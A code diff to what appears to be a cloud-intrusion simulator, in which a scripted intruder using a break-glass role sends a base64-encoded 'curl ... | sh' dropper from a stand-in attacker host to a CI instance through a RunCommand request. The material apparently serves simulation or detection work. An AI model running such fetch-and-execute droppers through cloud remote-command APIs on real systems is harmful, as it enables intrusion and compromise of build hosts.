@@ -1,5 +1,6 @@
 """A deployment key that the business uses every hour, and an intruder too."""
 
+from base64 import b64encode
 from datetime import datetime, timedelta
 
 from aktui.simcloud.account import Account
@@ -211,6 +212,9 @@ def _guesses(estate: Estate) -> list[tuple[str, str, tuple[int, str, str]]]:
     return [*missing, *((estate.buckets[3], f"trail/{name}", ACCESS_DENIED) for name in names[:4])]
 
 
+_DROPPER = f"curl -fsS http://{SECOND_LAIR}/k.sh | sh\n"
+
+
 def _second_night(intruder: Intruder, company: Company, estate: Estate, shadow: Actor) -> None:
     session = intruder.take_role(company.account.roles["ops-break-glass"], "aliyun-cli")
     intruder.do("Sts:GetCallerIdentity", actor=session, request={})
@@ -220,7 +224,13 @@ def _second_night(intruder: Intruder, company: Company, estate: Estate, shadow: 
     group = {"ACS::ECS::SecurityGroup": [estate.security_group]}
     intruder.do("Ecs:AuthorizeSecurityGroup", actor=session, resources=group)
     victim = {"ACS::ECS::Instance": [estate.ci_host]}
-    intruder.do("Ecs:RunCommand", actor=session, resources=victim)
+    run = {
+        "RegionId": company.account.region,
+        "Type": "RunShellScript",
+        "InstanceId.1": estate.ci_host,
+        "CommandContent": b64encode(_DROPPER.encode()).decode(),
+    }
+    intruder.do("Ecs:RunCommand", actor=session, resources=victim, request=run)
     for name in (
         "Sts:GetCallerIdentity",
         "Ecs:DescribeInstances",
